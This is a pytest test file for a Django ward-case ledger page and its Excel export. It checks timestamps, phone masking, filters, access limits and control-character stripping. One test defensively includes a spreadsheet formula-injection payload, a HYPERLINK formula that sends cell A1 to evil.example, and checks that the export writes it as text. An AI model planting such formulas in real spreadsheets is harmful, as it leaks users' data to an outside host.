"""The work ledger page and its Excel download: the region's cases with every lifecycle instant."""

import io
from datetime import datetime

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from wangge.cases.models import Case
from wangge.workbench.tests.casework import PHONE, closed, english, file_case

pytestmark = pytest.mark.django_db

COMMUNITY = "410102001001"


def download(client, code: str, params: dict | None = None):
    return client.get(reverse("workbench:ledger_download", args=[code]), params or {})


def sheet_rows(response) -> list[dict]:
    book = load_workbook(io.BytesIO(response.content), read_only=True)
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    header = rows[0]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def local(moment) -> datetime:
    return timezone.localtime(moment).replace(tzinfo=None, microsecond=0)


def test_the_download_holds_the_case_with_every_lifecycle_instant(client, tree, people):
    case = closed(tree, people)
    english(client, people.community_desk)

    response = download(client, COMMUNITY)

    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == (
        f'attachment; filename="ledger-{COMMUNITY}-20261130.xlsx"'
    )
    (row,) = sheet_rows(response)
    case = Case.objects.get(pk=case.pk)
    assert row["Case number"] == case.number
    assert row["Reporter phone"] == PHONE
    for column, moment in (
        ("Reported at", case.created_at),
        ("Registered at", case.registered_at),
        ("Dispatched at", case.dispatched_at),
        ("Accepted at", case.accepted_at),
        ("Handled at", case.handled_at),
        ("Closed at", case.closed_at),
    ):
        assert moment is not None, column
        # Local Zhengzhou time, as offices read it (Excel keeps milliseconds at most).
        assert row[column].replace(microsecond=0) == local(moment), column


def test_the_download_masks_the_phone_for_readers_who_do_not_call_back(
    client, tree, people
):
    file_case(tree)
    english(client, people.leader)
    (row,) = sheet_rows(download(client, COMMUNITY))
    assert row["Reporter phone"] == "138****5678"


def test_the_download_applies_the_filters_of_the_page(client, tree, people):
    done = closed(tree, people)
    file_case(tree, description="还开着")
    english(client, people.community_desk)
    rows = sheet_rows(download(client, COMMUNITY, {"open": "closed"}))
    assert [row["Case number"] for row in rows] == [done.number]


def test_a_ledger_outside_the_readers_area_answers_404(client, tree, people):
    client.force_login(people.community_desk)
    assert download(client, "410103").status_code == 404
    assert download(client, "410102").status_code == 404
    assert download(client, "999999").status_code == 404


def test_the_ledger_page_opens_on_the_readers_top_region(client, tree, people):
    case = file_case(tree)
    client.force_login(people.community_desk)
    response = client.get(reverse("workbench:ledger"))
    page = response.context["page"]
    assert page.node.code == COMMUNITY
    assert (page.count, page.preview) == (1, [case])
    html = response.content.decode()
    assert reverse("workbench:ledger_download", args=[COMMUNITY]) in html


def test_the_ledger_page_of_a_chosen_region_carries_the_filters_to_the_download(
    client, tree, people
):
    file_case(tree)
    client.force_login(people.township_desk)
    response = client.get(
        reverse("workbench:ledger"), {"region": COMMUNITY, "light": "green"}
    )
    assert response.context["page"].node.code == COMMUNITY
    expected = reverse("workbench:ledger_download", args=[COMMUNITY])
    assert f"{expected}?region={COMMUNITY}&amp;light=green" in response.content.decode()
    outside = client.get(reverse("workbench:ledger"), {"region": "410103"})
    assert outside.status_code == 404


@pytest.mark.parametrize(
    ("code", "reader"),
    [
        (COMMUNITY, "community_desk"),
        ("410102001", "township_desk"),
        ("410100", "leader"),
    ],
)
def test_a_nul_byte_in_an_old_description_does_not_break_the_ledger(
    client, tree, people, code, reader
):
    case = file_case(tree)
    # An old row from before intake refused control characters (PostgreSQL stores no NUL).
    nul = "\x00" if connection.vendor == "sqlite" else ""
    Case.objects.filter(pk=case.pk).update(description=f"堆满{nul}杂物\x07\x1b")
    english(client, getattr(people, reader))

    response = download(client, code)

    assert response.status_code == 200
    assert sheet_rows(response)[0]["Description"] == "堆满杂物"


def test_text_starting_like_a_formula_is_written_as_text(client, tree, people):
    injected = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    case = file_case(tree, address="@SUM(1+1)")
    Case.objects.filter(pk=case.pk).update(description=injected)
    english(client, people.community_desk)

    response = download(client, COMMUNITY)

    book = load_workbook(io.BytesIO(response.content))
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    row = sheet[2]
    description = row[header.index("Description")]
    address = row[header.index("Address")]
    assert (description.value, description.data_type) == (injected, "s")
    assert (address.value, address.data_type) == ("@SUM(1+1)", "s")
